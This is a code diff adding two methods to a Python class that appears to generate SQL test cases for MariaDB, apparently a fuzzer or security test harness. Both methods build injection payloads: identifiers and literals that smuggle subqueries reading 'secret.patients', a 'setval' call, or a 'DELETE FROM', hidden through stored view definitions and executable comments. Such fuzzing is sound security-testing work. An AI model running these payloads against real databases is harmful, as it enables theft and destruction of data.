@@ -123,8 +123,9 @@ class Forms:
                     [naming, b"PREPARE p FROM '" + create.replace(b"'", b"''") + b"'", b"EXECUTE p"],
                     [b"PREPARE p FROM '" + create.replace(b"'", b"''") + b"'", naming, b"EXECUTE p"],
                     [{"com": "PREPARE", "text": create}, naming, {"com": "EXECUTE"}], [f"SET character_set_client = {charset}", create],
-                    [naming, b"CREATE PROCEDURE own.mk{n}() " + create, self.fill("CALL own.mk{n}()")]]
-            steps = [self.fill(one.decode("latin-1")).encode("latin-1") if isinstance(one, bytes) else one for one in self.pick(ways)]
+                    [naming, b"CREATE PROCEDURE own.mk{n}() " + create, b"CALL own.mk{n}()"]]
+            number = self.fill("{n}")
+            steps = [one.replace(b"{n}", number.encode()) if isinstance(one, bytes) else one for one in self.pick(ways)]
             return [*steps, "SELECT * FROM own.pv"]
         if self.chance(0.6):
             behind = b") CHARSET utf8mb4 READS SQL DATA BEGIN " + leak + b"RETURN 1; /* "
@@ -135,6 +136,39 @@ class Forms:
         body = b"BEGIN /*x` FOR EACH ROW BEGIN " + leak + b"/* */ SET @y = 1; END"
         return [naming, "CREATE TABLE own.trt (a INT)", b"CREATE TRIGGER own.trx BEFORE INSERT ON own.trt FOR EACH ROW " + body, "SET NAMES utf8mb4",
                 f"RENAME TABLE own.trt TO own.`{name}`".encode(), f"INSERT INTO own.`{name}` VALUES (1)".encode(), "SELECT @leak"]
+
+    def unquoted(self):
+        """What MariaDB prints without quotes or escapes: names of definitions in views, literals with introducers in tables."""
+        table = self.pick("secret.patients", "secret.visits", "shared.patients")
+        if self.chance(0.5):
+            name = self.pick("c as (select name from {t}) select * from c#", "z(a) as (select name from {t}), q", "c as (select max(name) a from {t}) select a from c -- ").replace("{t}", table)
+            query = self.pick(f"WITH `{name}` AS (SELECT 1 a) SELECT * FROM `{name}`", f"WITH `{name}` AS (SELECT 1 a) SELECT z.a FROM `{name}` z",
+                              f"SELECT * FROM (WITH `{name}` (a) AS (SELECT 1) SELECT a FROM `{name}`) x", f"WITH x AS (SELECT 2 b), `{name}` AS (SELECT 1 a) SELECT a, b FROM x, `{name}`")
+            create = f"CREATE OR REPLACE VIEW own.pv AS {query}"
+            return [*self.pick([create], self.prepared(create.encode()), ["CREATE OR REPLACE VIEW own.pv AS SELECT 1", f"ALTER VIEW own.pv AS {query}"]), "SELECT * FROM own.pv"]
+        inside = self.pick("a'',setval(secret.seq,777777))#", "a\\',setval(secret.seq,777777))#", "a\\\\',setval(secret.seq,777777))#")
+        raw = "a',setval(secret.seq,777777))#".encode().hex()
+        literal = self.pick("_latin1", "_utf8mb4 ", "_binary/**/", "N", "") + self.pick(f"'{inside}'", f"'x' '{inside}'", f"x'{raw}'", f"0x{raw}")
+        column = self.pick("DEFAULT (concat({l}))", "CHECK (concat({l}) <> 'q')", "AS (concat({l}))").replace("{l}", literal)
+        made = self.pick([f"CREATE TABLE own.dd (id INT, a VARCHAR(200) {column})"], ["CREATE TABLE own.dd (id INT)", f"ALTER TABLE own.dd ADD a VARCHAR(200) {column}"])
+        return ["DROP TABLE IF EXISTS own.dd", *made, "INSERT INTO own.dd (id) VALUES (1)"]
+
+    def glued(self):
+        """Executable comments that are left out of a text that the server keeps: their neighbours become one."""
+        skipped, table = self.pick("/*!999999 x*/", "/*!99999 x*/", "/*M!999999 x*/", "/*!*/", "/*!50000*/"), self.table()
+        between = self.pick(f"-{skipped}-", "-/*!50000-", "/*!50000 -*/-", f"- {skipped}-", f"-{skipped} -", f"-/* */{skipped}-")
+        end = " */" if between == "-/*!50000-" else ""
+        hidden = f"{between} '2\n, (SELECT MAX(name) FROM {table}) b -- '{end}"
+        glued = f"{between} '2\n, name FROM {table}) -- '{end}"
+        way = self.pick([f"CREATE PROCEDURE own.gl{{n}}() SELECT 1 {hidden}", "CALL own.gl{n}()"],
+                        [f"CREATE FUNCTION own.gl{{n}}() RETURNS VARCHAR(60) READS SQL DATA RETURN (SELECT MAX(x) FROM (SELECT 1 {between} '2\n, name x FROM {table}) y) -- '{end} x) y)",
+                         "SELECT own.gl{n}()"],
+                        [f"CREATE PROCEDURE own.gl{{n}}() BEGIN SELECT 1 {between} 'a\n; DELETE FROM {table}; SELECT 2 -- '{end}\n; END", "CALL own.gl{n}()"],
+                        [f"WITH c AS (SELECT id {glued} FROM own.a) SELECT y.* FROM c x, c y"],
+                        [f"INSERT INTO own.sink WITH c AS (SELECT id {glued} FROM own.a) SELECT y.* FROM c x, c y", "SELECT * FROM own.sink"],
+                        [{"com": "STMT", "text": f"WITH c AS (SELECT id {glued} FROM own.a) SELECT y.* FROM c x, c y"}])
+        number = self.fill("{n}")
+        return [one.replace("{n}", number) if isinstance(one, str) else one for one in way]
 
     # Parameters
 
